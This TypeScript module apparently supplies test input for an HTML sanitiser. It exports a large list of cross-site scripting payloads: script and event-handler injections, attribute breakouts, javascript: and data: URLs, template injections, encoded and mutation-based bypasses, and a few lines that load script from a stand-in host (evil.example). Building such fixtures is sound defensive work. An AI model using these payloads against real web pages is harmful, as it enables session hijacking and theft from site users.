/** What each would do if it were let: the browser tells of it. */
const RUN = 'alert(1)'

const SCRIPTS = [
  ...[
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<ScRiPt >${RUN}</ScRiPt >`,
    `<script\n>${RUN}</script\n>`,
    `<script/x>${RUN}</script>`,
  ],
  ...[
    `<script type="module">${RUN}</script>`,
    `<script async>${RUN}</script>`,
    `<script defer src="data:text/javascript,${RUN}"></script>`,
  ],
  ...[
    '<script src=//evil.example/x.js></script>',
    '<script src="https://evil.example"></script>',
    '<script src=data:,alert(1)></script>',
  ],
  ...[
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<<script>${RUN}//<</script>`,
    `<script>/*<!--*/${RUN}</script>`,
    `<script x>${RUN}</script y>`,
  ],
  ...[
    `<svg><script>${RUN}</script></svg>`,
    '<svg><script href="data:,alert(1)"/>',
    '<svg><script>&#97;lert(1)</script>',
    `<math><script>${RUN}</script></math>`,
  ],
  ...[
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml version="1.0"?><script>${RUN}</script>`,
    `<!--><script>${RUN}</script>-->`,
    '<script>eval(atob("YWxlcnQoMSk="))</script>',
  ],
]

const HANDLERS = [
  ...[
    `<img src=x onerror=${RUN}>`,
    `<IMG SRC=x ONERROR=${RUN}>`,
    `<img src=x onerror="${RUN}">`,
    `<img src=x onerror='${RUN}'>`,
    '<img src=x onerror=alert`1`>',
  ],
  ...[
    `<img/src=x/onerror=${RUN}>`,
    `<img\tsrc=x\tonerror=${RUN}>`,
    `<img\nsrc=x\nonerror=${RUN}>`,
    '<img src=x onerror=&#97;lert(1)>',
    '<img src=x onerror=\\u0061lert(1)>',
  ],
  ...[
    `<img src onerror=${RUN}>`,
    `<img srcset=x onerror=${RUN}>`,
    `<img src=/mark.svg onload=${RUN}>`,
    `<img src="x" alt="" onerror=${RUN}//`,
  ],
  ...[
    `<svg onload=${RUN}>`,
    `<svg/onload=${RUN}>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set onbegin=${RUN} attributeName=x>`,
    `<svg><g onload=${RUN}></g></svg>`,
  ],
  ...[
    `<svg><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/>`,
    `<svg><image href=x onerror=${RUN}>`,
  ],
  ...[
    `<body onload=${RUN}>`,
    `<body onpageshow=${RUN}>`,
    `<body onfocus=${RUN}>`,
    `<frameset onload=${RUN}>`,
    `<html onmouseover=${RUN}>`,
  ],
  ...[
    `<iframe onload=${RUN}>`,
    `<iframe src="javascript:${RUN}">`,
    `<iframe srcdoc="<script>${RUN}</script>">`,
    `<iframe src="data:text/html,<script>${RUN}</script>">`,
  ],
  ...[
    `<video src=x onerror=${RUN}>`,
    `<video><source onerror=${RUN}>`,
    `<video onloadstart=${RUN}><source>`,
    `<audio src=x onerror=${RUN}>`,
    `<audio autoplay onplay=${RUN} src=x>`,
  ],
  ...[
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}>`,
    `<textarea autofocus onfocus=${RUN}>`,
    `<button autofocus onfocus=${RUN}>x</button>`,
  ],
  ...[
    `<a href=# autofocus onfocus=${RUN}>x</a>`,
    `<div tabindex=1 autofocus onfocus=${RUN}>x</div>`,
    `<div onmouseover=${RUN}>x</div>`,
    `<p onpointerenter=${RUN}>x</p>`,
  ],
  ...[
    `<div onanimationstart=${RUN} style="animation:spin">`,
    `<div ontransitionend=${RUN}>`,
    `<x onclick=${RUN}>x`,
    `<x contenteditable onblur=${RUN}>x`,
    `<details open ontoggle=${RUN}>`,
  ],
  ...[
    `<marquee onstart=${RUN}>x</marquee>`,
    `<marquee loop=1 onfinish=${RUN}>x</marquee>`,
    `<keygen autofocus onfocus=${RUN}>`,
    `<dialog open onclose=${RUN}>`,
    `<embed src=x onload=${RUN}>`,
  ],
  ...[
    `<object data="javascript:${RUN}">`,
    `<object data=x onerror=${RUN}>`,
    `<embed src="javascript:${RUN}">`,
    `<applet onerror=${RUN}>`,
    `<link rel=stylesheet href=x onerror=${RUN}>`,
  ],
  ...[
    `<style onload=${RUN}></style>`,
    `<style>@import 'x';</style>`,
    `<link rel=import href="data:text/html,${RUN}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  ],
  ...[
    `<form action="javascript:${RUN}"><button>x</button></form>`,
    `<button formaction="javascript:${RUN}">x</button>`,
    `<isindex action="javascript:${RUN}" type=image>`,
    '<base href="//evil.example/">',
  ],
  ...[
    `<table background="javascript:${RUN}"><tr><td>x`,
    `<input type=image src=x onerror=${RUN}>`,
    `<portal src=x onload=${RUN}>`,
    `<math href="javascript:${RUN}">x</math>`,
  ],
]

// What stands before would have to be closed first.
const WAYS_OUT = [
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
]
const BREAKOUTS = WAYS_OUT.flatMap((way) => [
  `${way}<img src=x onerror=${RUN}>`,
  `${way}<svg onload=${RUN}>`,
]).concat(
  [
    `" onmouseover="${RUN}`,
    `' onmouseover='${RUN}`,
    `" autofocus onfocus=${RUN} x="`,
    `' autofocus onfocus=${RUN} x='`,
    `x onerror=${RUN}`,
    `" style="x:expression(${RUN})`,
  ],
  [
    `'-${RUN}-'`,
    `";${RUN}//`,
    `\\";${RUN}//`,
    `\${${RUN}}`,
    `</script><script>${RUN}</script>`,
    `'}];${RUN};//`,
    `\u2028${RUN}\u2028`,
  ],
)

const ADDRESSES = [
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    ` javascript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript\u200b:${RUN}`,
  ],
  ...[
    `javascript://%0a${RUN}`,
    'javascript:%61lert(1)',
    '&#106;avascript:alert(1)',
    '&#x6a&#x61vascript:alert(1)',
    `vbscript:msgbox(1)`,
    `livescript:${RUN}`,
  ],
  ...[
    `data:text/html,<script>${RUN}</script>`,
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    `data:image/svg+xml,<svg onload=${RUN}>`,
    `blob:https://evil.example/x`,
  ],
  ...[
    `feed:javascript:${RUN}`,
    `view-source:javascript:${RUN}`,
    '\\\\evil.example',
    `https:javascript:${RUN}`,
    `<a href="javascript:${RUN}">x</a>`,
  ],
  ...[
    `[x](javascript:${RUN})`,
    `![x](x"onerror="${RUN})`,
    `<javascript:${RUN}>`,
    `<a href=" &#14; javascript:${RUN}">x</a>`,
  ],
]

const TEMPLATES = [
  ...[
    `{{constructor.constructor('${RUN}')()}}`,
    `{{${RUN}}}`,
    `{{$on.constructor('${RUN}')()}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `{%25 ${RUN} %25}`,
    `[[${RUN}]]`,
  ],
  ...[
    `{name, select, other {<img src=x onerror=${RUN}>}}`,
    '{count, plural, other {#}}',
    '{company}<b>{name}</b>',
    `<b>bold</b><link>x</link>`,
  ],
  ...[`{"type":"doc","content":[{"type":"html","text":"<img onerror=${RUN}>"}]}`, '__proto__', 'constructor'],
]

const ENCODED = [
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%253Csvg onload=alert(1)%253E',
    '\\u003cscript\\u003ealert(1)',
    '\\x3cscript\\x3ealert(1)',
  ],
  ...[
    '+ADw-script+AD4-alert(1)',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '\u02c2svg onload=alert(1)\u02c3',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '\u202e>)1(trela=rorreno',
  ],
]

// Letters that a parser, asked to make a text safe, would turn into something else.
const MUTATIONS = [
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<svg><style><img src=x onerror=${RUN}></style>`,
    `<form id=x></form><button form=x formaction="javascript:${RUN}">`,
  ],
  ...[
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  ],
  ...[
    `<select><template><img src=x onerror=${RUN}></template>`,
    `<title><a title="</title><img src=x onerror=${RUN}>">`,
    `<xmp><p title="</xmp><svg onload=${RUN}>">`,
  ],
  ...[
    '<a id=localStorage><a id=localStorage name=token>',
    '<form name=querySelector><input name=body>',
    `<style>*{background:url("javascript:${RUN}")}</style>`,
  ],
]

// Those that swallow what follows stand last, so that none hides another where all stand in one text.
const SWALLOWERS =
  /<(!--|!\[CDATA|textarea|title|xmp|style|noscript|template|select|iframe|script|plaintext)/i

/** Texts that somebody could send in the hope that a page takes them for more than text. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...SCRIPTS, ...HANDLERS, ...BREAKOUTS, ...ADDRESSES, ...TEMPLATES, ...ENCODED, ...MUTATIONS]),
].toSorted((one, other) => Number(SWALLOWERS.test(one)) - Number(SWALLOWERS.test(other)))

/** All of them in one text. */
export const ALL_PAYLOADS = PAYLOADS.join(' ')
